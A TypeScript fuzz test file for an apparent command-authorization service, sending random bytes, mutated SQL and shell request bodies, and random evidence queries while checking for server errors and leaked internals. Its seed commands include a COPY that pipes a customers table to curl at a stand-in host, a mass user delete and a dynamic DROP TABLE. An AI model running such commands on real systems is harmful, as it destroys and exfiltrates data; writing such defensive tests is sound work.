/** Whatever is sent: no 5xx, no allow for what did not parse, and nothing of the inside in an answer. */
import { randomBytes } from 'node:crypto'
import fc from 'fast-check'
import { seeded } from '../../bench/bodies.ts'
import { testService, type Answered, type TestService } from '../support/service.ts'

let running: TestService
beforeAll(async () => {
  running = await testService()
})
afterAll(() => running.close())

const inside = /node_modules|\/src\/|\/dist\/|\.[jt]s:\d+|INSERT INTO|SELECT .* FROM ledger|at [A-Za-z.]+ \(/

function check({ status, text, body }: Answered, sent: string): void {
  const found = status >= 500 ? `status ${status}` : inside.exec(text.replace(sent, ''))?.[0]
  if (found !== undefined)
    throw new Error(`${found} for ${JSON.stringify(sent.slice(0, 300))}: ${text.slice(0, 300)}`)
  const intent = body['intent'] as unknown as { parse: { ok: boolean } } | undefined
  if (intent?.parse.ok === false && body['verdict'] !== 'deny')
    throw new Error(`not denied: ${sent.slice(0, 300)}`)
}

test('10,000 random byte strings', async () => {
  const random = seeded(11)
  for (let turn = 0; turn < 10_000; turn += 20) {
    await Promise.all(
      Array.from({ length: 20 }, async () => {
        const sent = randomBytes(Math.floor(random() * 200)).toString('latin1')
        const answer = await running.post('/v1/decide', sent)
        check(answer, sent)
        expect(answer.status).toBe(400)
      }),
    )
  }
}, 120_000)

const texts = [
  'SELECT id, status FROM orders WHERE id = 42',
  'WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d',
  "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$",
  "COPY customers TO PROGRAM 'curl -T - https://x.example'",
  'UPDATE jobs SET a = 1 WHERE id IN (SELECT id FROM jobs LIMIT 10)',
  'rm -rf ./node_modules && npm ci',
  "sudo -u postgres psql -c 'SELECT 1'",
  'for f in *.log; do gzip "$f"; done',
  'cat <<EOF > x\n$(date)\nEOF',
  'find . -name "*.tmp" -exec rm {} +',
] as const

/** A valid body whose text, or whose JSON, had a few characters removed, doubled, swapped or replaced. */
function mutant(random: () => number): string {
  const text = texts[Math.floor(random() * texts.length)] ?? ''
  const isShell = /^(rm|sudo|for|cat|find)/.test(text)
  const body = (mutated: string): string =>
    JSON.stringify({
      actor: { id: 'service:x' },
      command: isShell
        ? { language: 'shell', dialect: random() < 0.5 ? 'bash' : 'sh', text: mutated }
        : { language: 'sql', dialect: 'postgresql', text: mutated },
      target: { system: isShell ? 'host' : 'postgresql', id: 'a', environment: 'production' },
    })
  return random() < 0.6 ? body(changed(text, random)) : changed(body(text), random)
}

function changed(text: string, random: () => number): string {
  const pieces = Array.from(text)
  for (let turn = 1 + Math.floor(random() * 4); turn > 0; turn--) {
    const at = Math.floor(random() * pieces.length)
    const kind = random()
    if (kind < 0.3) pieces.splice(at, 1)
    else if (kind < 0.5) pieces.splice(at, 0, pieces[at] ?? '')
    else if (kind < 0.8)
      pieces.splice(at, 1, '\'"$`;|&()<>{}[]\\*?#~ \n\0é💥-/%'.charAt(Math.floor(random() * 34)))
    else pieces.splice(at, 0, ...pieces.slice(Math.floor(random() * pieces.length)).slice(0, 12))
  }
  return pieces.join('')
}

test('10,000 mutated bodies, of which many are valid', async () => {
  const random = seeded(12)
  let valid = 0
  for (let turn = 0; turn < 10_000; turn += 20) {
    await Promise.all(
      Array.from({ length: 20 }, async () => {
        const sent = mutant(random)
        const answer = await running.post('/v1/decide', sent)
        check(answer, sent)
        if (answer.status === 200) valid++
      }),
    )
  }
  expect(valid).toBeGreaterThanOrEqual(2_000)
}, 240_000)

test('queries of evidence are answered or refused, never broken', async () => {
  const names = [
    'actor',
    'verdict',
    'from',
    'to',
    'q',
    'limit',
    'cursor',
    'order',
    'proof',
    'zzz',
    'category',
    'kind',
  ]
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(fc.constantFrom(...names), fc.string({ maxLength: 30 })), { maxLength: 4 }),
      async (pairs) => {
        const query = new URLSearchParams(pairs.map(([name, value]) => [name, value])).toString()
        check(await running.get(`/v1/evidence?${query}`), query)
      },
    ),
    { numRuns: 300 },
  )
}, 60_000)
